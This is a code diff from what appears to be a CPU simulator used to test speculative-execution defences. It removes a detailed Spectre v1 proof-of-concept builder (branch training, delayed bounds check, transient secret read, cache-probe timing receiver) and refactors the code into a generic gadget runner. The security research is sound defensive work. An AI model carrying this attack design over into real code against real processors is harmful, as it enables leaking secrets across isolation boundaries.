@@ -4,7 +4,6 @@
 #include <vector>
 
 #include "common/logging.hh"
-#include "common/rng.hh"
 #include "core/core.hh"
 #include "secure/factory.hh"
 
@@ -14,158 +13,53 @@ namespace sb
 namespace
 {
 
-// Memory layout of the attack program.
-constexpr Addr array1Base = 0x200000;
-constexpr Addr secretOffset = 0x10000;   ///< Out-of-range index.
-constexpr Addr array2Base = 0x400000;
-constexpr unsigned probeStride = 512;    ///< One slot per byte value.
-constexpr Addr idxArrayBase = 0x600000;
-constexpr Addr chaseBase = 0x800000;
-constexpr unsigned chaseNodes = 2048;
-constexpr unsigned trainingRounds = 48;
-constexpr std::int64_t inRangeLength = 8;
+/** FNV-1a 64 digest of the committed-load observation trace. */
+std::uint64_t
+hashObservations(const std::vector<LoadObservation> &trace)
+{
+    std::uint64_t hash = 0xcbf29ce484222325ull;
+    auto mix = [&hash](std::uint64_t word) {
+        for (unsigned byte = 0; byte < 8; ++byte) {
+            hash ^= (word >> (8 * byte)) & 0xff;
+            hash *= 0x100000001b3ull;
+        }
+    };
+    for (const LoadObservation &obs : trace) {
+        mix(obs.pc);
+        mix(obs.commitCycle);
+        mix(obs.completeCycle);
+        mix(obs.l1Hit ? 1 : 0);
+    }
+    return hash;
+}
 
 } // anonymous namespace
 
-SpectreProgram
-buildSpectreV1Program(std::uint8_t secret_byte, std::uint64_t seed)
-{
-    sb_assert(secret_byte >= 1,
-              "secret byte must be 1..255 (slot 0 is warmed by training)");
-    ProgramBuilder b;
-    Rng rng(seed);
-
-    // --- Victim memory ------------------------------------------------
-    // In-range entries are all zero, so training only ever warms
-    // probe slot 0 (excluded from scoring).
-    for (unsigned i = 0; i < inRangeLength; ++i)
-        b.memory().write(array1Base + 8 * i, 0);
-    // The secret lives past the bound.
-    b.memory().write(array1Base + secretOffset, secret_byte);
-
-    // --- Index sequence: training values, then the malicious index ----
-    const unsigned rounds = trainingRounds + 1;
-    for (unsigned t = 0; t < trainingRounds; ++t)
-        b.memory().write(idxArrayBase + 8 * t, t % inRangeLength);
-    b.memory().write(idxArrayBase + 8 * trainingRounds, secretOffset);
-
-    // --- Cold pointer chain that delays the bound (three hops/round) --
-    std::vector<std::uint32_t> order(chaseNodes);
-    for (unsigned i = 0; i < chaseNodes; ++i)
-        order[i] = i;
-    for (unsigned i = chaseNodes - 1; i > 0; --i) {
-        const unsigned j = rng.below(i);
-        std::swap(order[i], order[j]);
-    }
-    for (unsigned i = 0; i < chaseNodes; ++i) {
-        const Addr node = chaseBase + Addr(order[i]) * 64;
-        const Addr next = chaseBase + Addr(order[(i + 1) % chaseNodes]) * 64;
-        b.memory().write(node, next);
-        b.memory().write(node + 8, inRangeLength); // The bound.
-    }
-
-    // --- Registers ------------------------------------------------------
-    const ArchReg a1 = 1, a2 = 2, idxp = 3, idx = 4, bound = 5;
-    const ArchReg chase = 6, hop1 = 7, hop2 = 8;
-    const ArchReg secret = 10, offs = 11, slot = 12, leakv = 13;
-    const ArchReg probeAddr = 14, probeVal = 15;
-    const ArchReg cnt = 20, lim = 21, one = 22, byteMask = 24;
-    const ArchReg nine = 25, acc = 26, chain0 = 27, zero = 28;
-
-    b.movi(a1, array1Base);
-    b.movi(a2, array2Base);
-    b.movi(idxp, idxArrayBase);
-    b.movi(chase, chaseBase + Addr(order[0]) * 64);
-    b.movi(cnt, 0);
-    b.movi(lim, rounds);
-    b.movi(one, 1);
-    b.movi(byteMask, 0xff);
-    b.movi(nine, 9);
-    b.movi(acc, 0);
-    b.movi(chain0, 0);
-    b.movi(zero, 0);
-
-    // --- Victim rounds ----------------------------------------------------
-    const auto round = b.here();
-    // Three dependent cold loads delay the bound by ~300 cycles.
-    b.load(hop1, chase, 0);
-    b.load(hop2, hop1, 0);
-    b.load(bound, hop2, 8);
-    b.add(chase, hop2, zero);       // Advance the chase head.
-    b.load(idx, idxp, 0);
-    b.addi(idxp, idxp, 8);
-    const auto skip = b.futureLabel();
-    b.bge(idx, bound, skip);        // The trained bounds check.
-    // --- Transient gadget (executes speculatively on the attack round)
-    b.add(offs, a1, idx);
-    b.load(secret, offs, 0);        // Reads the secret transiently.
-    b.and_(secret, secret, byteMask);
-    b.shl(slot, secret, nine);      // * 512.
-    b.add(slot, a2, slot);
-    b.load(leakv, slot, 0);         // Transmit: encodes into the cache.
-    b.add(acc, acc, leakv);
-    b.bind(skip);
-    b.add(cnt, cnt, one);
-    // Loop structure matters for receiver hygiene: the exit branch
-    // is not-taken through every round, so any mispredicted wrong
-    // path falls back *into* the loop, never into the probe code.
-    const auto exit_label = b.futureLabel();
-    b.beq(cnt, lim, exit_label);
-    b.jmp(round);
-    b.bind(exit_label);
-
-    // --- Serialisation barrier: six more cold dependent hops gate
-    // chain0, so no probe load can execute until long after any
-    // wrong-path window closes. The harness pauses at the first
-    // barrier load to read the residency oracle before the probe
-    // pollutes the cache.
-    SpectreProgram out;
-    out.barrierPc = b.load(hop1, chase, 0);
-    b.load(hop2, hop1, 0);
-    b.load(hop1, hop2, 0);
-    b.load(hop2, hop1, 0);
-    b.load(hop1, hop2, 0);
-    b.load(bound, hop1, 0);
-    b.and_(chain0, bound, zero);
-
-    // --- Receiver: serialised timing probe over slots 1..255 -----------
-    for (unsigned v = 1; v < 256; ++v) {
-        const std::uint32_t movi_pc =
-            b.movi(probeAddr, array2Base + Addr(v) * probeStride);
-        if (v == 1)
-            out.firstProbePc = movi_pc + 2;
-        b.add(probeAddr, probeAddr, chain0); // Serialise on prev probe.
-        b.load(probeVal, probeAddr, 0);
-        b.and_(chain0, probeVal, zero);      // chain0 = 0, dep on load.
-    }
-    b.halt();
-
-    out.program = b.build("spectre-v1");
-    return out;
-}
-
 AttackResult
-runSpectreV1(const CoreConfig &core_config,
-             const SchemeConfig &scheme_config, std::uint8_t secret_byte,
-             std::uint64_t seed)
+runGadgetAttack(const GadgetProgram &gadget,
+                const CoreConfig &core_config,
+                const SchemeConfig &scheme_config,
+                std::unique_ptr<SecureScheme> scheme,
+                std::uint8_t secret_byte)
 {
-    const SpectreProgram spectre =
-        buildSpectreV1Program(secret_byte, seed);
-    Core core(core_config, scheme_config, makeScheme(scheme_config),
-              spectre.program);
+    using gadget_layout::array2Base;
+    using gadget_layout::probeStride;
+
+    Core core(core_config, scheme_config, std::move(scheme),
+              gadget.program);
+    core.enableObservationTrace();
 
     // Commit-time receiver: record the commit cycle of each probe.
     std::vector<Cycle> commit_cycle(256, 0);
     bool rounds_done = false;
-    const std::uint32_t first_probe_pc = spectre.firstProbePc;
+    const std::uint32_t first_probe_pc = gadget.firstProbePc;
     core.setCommitHook([&](const DynInst &inst, Cycle at) {
         if (inst.pc >= first_probe_pc && inst.isLoad()) {
-            const unsigned v =
-                1 + (inst.pc - first_probe_pc) / 4;
+            const unsigned v = 1 + (inst.pc - first_probe_pc) / 4;
             if (v < 256)
                 commit_cycle[v] = at;
         }
-        if (inst.pc == spectre.barrierPc)
+        if (inst.pc == gadget.barrierPc)
             rounds_done = true;
     });
 
@@ -223,7 +117,30 @@ runSpectreV1(const CoreConfig &core_config,
     res.consumeViolations = core.monitor().consumeViolations();
     res.leaked = res.timingByte == secret_byte
                  || res.oracleByte == secret_byte;
+    res.traceHash = hashObservations(core.observationTrace());
+    res.traceLength = core.observationTrace().size();
+    res.cycles = core.now();
     return res;
+}
+
+AttackResult
+runGadget(GadgetKind kind, const CoreConfig &core_config,
+          const SchemeConfig &scheme_config, std::uint8_t secret_byte,
+          std::uint64_t seed)
+{
+    const GadgetProgram gadget =
+        buildGadgetProgram(kind, secret_byte, seed);
+    return runGadgetAttack(gadget, core_config, scheme_config,
+                           makeScheme(scheme_config), secret_byte);
+}
+
+AttackResult
+runSpectreV1(const CoreConfig &core_config,
+             const SchemeConfig &scheme_config, std::uint8_t secret_byte,
+             std::uint64_t seed)
+{
+    return runGadget(GadgetKind::SpectreV1, core_config, scheme_config,
+                     secret_byte, seed);
 }
 
 } // namespace sb
